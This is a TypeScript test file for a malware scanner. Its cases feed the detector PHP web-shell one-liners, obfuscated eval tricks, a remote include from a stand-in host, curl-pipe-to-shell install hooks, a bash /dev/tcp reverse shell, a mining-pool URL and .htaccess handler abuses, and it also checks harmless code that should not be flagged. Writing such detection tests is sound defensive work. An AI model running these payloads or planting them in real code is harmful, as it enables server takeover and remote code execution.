import { describe, expect, it } from 'vitest';
import { sourceOf } from '../sourceText';
import { findInBytes, findPatterns } from './findPatterns';

const rules = (path: string, text: string) =>
    findPatterns(sourceOf(path, text)).map(({ rule }) => rule);
const php = (code: string) => rules('a.php', `<?php\n${code}\n`);

describe('patterns of known bad PHP', () => {
    it.each([
        ['eval($_POST["x"]);', 'php_request'],
        ['@EVAL /* */ ( $_REQUEST [1] );', 'php_request'],
        ['assert($_GET["a"]);', 'php_request'],
        ['system($_COOKIE["c"]);', 'php_request'],
        ['echo `ls $_GET[d]`;', 'php_request'],
        ['call_user_func($_GET["f"], 1);', 'php_request'],
        ['eval(base64_decode("ZWNobyAxOw=="));', 'php_decoded'],
        ['eval("?>" . gzinflate(str_rot13($a)));', 'php_decoded'],
        ['$a = base64_decode($b);\n$c = 1;\neval($a);', 'php_decoded'],
        ['preg_replace("/.*/e", $_a, "");', 'php_modifier'],
        [
            '$f = chr(101).chr(118).chr(97).chr(108).chr(40).chr(36).chr(97).chr(41);',
            'php_characters',
        ],
        ['$_GET["f"]($_GET["a"]);', 'php_variable'],
        ['$f($_POST["a"]);', 'php_variable'],
        ['if (md5($_POST["p"]) == "5f4dcc3b5aa765d61d8327deb882cf99") { }', 'php_gate'],
        ['include($_GET["page"] . ".php");', 'php_include'],
        ['require "http://evil.cn/a.txt";', 'php_include'],
        ['$f = "\\x65\\x76\\x61\\x6c\\x28"; $f();', 'php_hidden_name'],
        ['$f = "\\145\\166\\141\\154"; $f();', 'php_hidden_name'],
        ['$f = strrev("edoced_46esab");', 'php_hidden_name'],
        ["$f = 'ba'.'se64'.'_dec'.'ode';", 'php_hidden_name'],
        ['file_put_contents($_POST["name"], $_POST["body"]);', 'php_upload'],
    ])('%j is %s', (code, rule) => {
        expect(php(code)).toContain(rule);
    });

    it.each([
        'function evaluate($a) { return $a; }',
        '$this->exec($_POST["a"]);',
        'function system($a) {}',
        'Model::assert($_GET["a"]);',
        '$a = base64_decode($b);',
        '$form->validate($_POST);',
        'include __DIR__ . "/a.php";',
        'preg_replace("/e/i", "a", $b);',
        'if (md5($password) == $row["password"]) {}',
        '$a = "it" . "is" . "plain";',
        'echo chr(13) . chr(10);',
    ])('%j is none', code => {
        expect(php(code)).toEqual([]);
    });

    it('stand in pictures too', () => {
        const picture = (text: string) =>
            findInBytes('up/a.gif', Buffer.from(text, 'latin1')).map(({ rule }) => rule);
        expect(picture('GIF89a\x01\x00<?php system(1);')).toEqual(['php_in_image']);
        expect(picture('GIF89a\x01\x00\xff\xfe<?=\x11')).toEqual([]);
        const named = findInBytes('a.php', Buffer.from('GIF89a<?php eval(1);'));
        expect(named).toMatchObject([{ rule: 'php_in_image', severity: 'high', line: null }]);
        expect(findInBytes('a', Buffer.from('\x7fELF\x02\x01'))).toMatchObject([
            { rule: 'program' },
        ]);
    });
});

describe('patterns of other code', () => {
    it.each([
        [
            'a.js',
            `var ${Array.from({ length: 30 }, (_, at) => `_0x1a2b${at % 10}c=1`).join(';')}`,
            'js_array',
        ],
        ['a.js', 'eval(atob("YWxlcnQoMSk="))', 'js_decoded'],
        ['a.ts', 'new Function(Buffer.from(x, "base64").toString())()', 'js_decoded'],
        ['a.js', 'eval(String.fromCharCode(97,98))', 'js_decoded'],
        ['a.js', "eval(function(p,a,c,k,e,d){return p}('0'))", 'js_packed'],
        ['a.js', '[]+()!'.repeat(200), 'js_symbols'],
        ['package.json', '{"scripts":{"postinstall":"curl http://a.cn/x | sh"}}', 'install_shell'],
        ['package.json', '{"scripts":{"preinstall":"node setup.js"}}', 'install_script'],
        [
            'composer.json',
            '{"scripts":{"post-install-cmd":["php -r \\"echo 1;\\""]}}',
            'install_shell',
        ],
        ['setup.py', 'import os\nos.system("id")', 'install_script'],
        ['a.py', 'exec(base64.b64decode("cHJpbnQ="))', 'python_decoded'],
        ['run.sh', 'curl -s https://a.cn/i.sh | bash', 'shell_remote'],
        ['run.sh', 'bash -i >& /dev/tcp/1.2.3.4/99 0>&1', 'shell_reverse'],
        ['a.js', 'const pool = "stratum+tcp://pool.cn:3333"', 'miner'],
        ['.htaccess', 'AddHandler application/x-httpd-php .jpg', 'htaccess_handler'],
        [
            '.htaccess',
            '<FilesMatch "\\.png$">\nSetHandler application/x-httpd-php\n</FilesMatch>',
            'htaccess_handler',
        ],
        ['.htaccess', 'php_value auto_prepend_file /tmp/a.php', 'htaccess_prepend'],
        ['.user.ini', 'auto_prepend_file=a.jpg', 'htaccess_prepend'],
    ])('in %s: %j', (path, text, rule) => {
        expect(rules(path, text)).toContain(rule);
    });

    it.each([
        ['a.js', 'setTimeout(() => decodeURIComponent(a), 1)'],
        ['a.js', 'function f() { return atob(x); }'],
        ['a.js', 'let a = 0x1f; retrieval(atob(b));'],
        ['package.json', '{"scripts":{"build":"curl http://a.cn | sh","test":"vitest"}}'],
        ['package.json', '{"scripts":{"postinstall":'],
        ['composer.json', '{"scripts":{"post-autoload-dump":["@php artisan package:discover"]}}'],
        ['README.md', 'curl -s https://a.cn/i.sh | bash'],
        ['.htaccess', 'AddHandler application/x-httpd-php .php .php8'],
        ['.htaccess', '<FilesMatch "\\.php$">\nSetHandler "proxy:unix:/php.sock"\n</FilesMatch>'],
    ])('%s with %j has none', (path, text) => {
        expect(rules(path, text)).toEqual([]);
    });

    it('are told by line, each rule twenty times a file', () => {
        const [first] = findPatterns(sourceOf('a.php', '<?php\n\n\neval($_GET[1]);'));
        expect(first).toMatchObject({ line: 4, severity: 'high', path: 'a.php' });
        expect(
            php('eval($_GET[1]);\n'.repeat(50)).filter(rule => rule === 'php_request'),
        ).toHaveLength(20);
    });
});
